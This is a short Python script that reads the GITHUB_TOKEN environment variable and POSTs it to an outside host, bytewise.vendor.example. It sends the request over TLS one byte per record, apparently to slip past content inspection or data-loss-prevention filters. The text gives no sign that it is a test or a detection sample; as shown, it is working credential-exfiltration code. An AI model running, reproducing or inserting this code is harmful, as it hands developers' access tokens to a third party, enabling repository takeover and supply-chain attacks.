#!/usr/bin/python3
"""One byte in each TLS record."""

import os
import socket
import ssl

HOST = "bytewise.vendor.example"
body = b"token=" + os.environb[b"GITHUB_TOKEN"]
head = f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {len(body)}\r\n\r\n".encode()
with (
    socket.create_connection((HOST, 443), 20) as plain,
    ssl.create_default_context().wrap_socket(plain, server_hostname=HOST) as channel,
):
    for byte in head + body:
        channel.send(bytes([byte]))
    channel.recv(100)
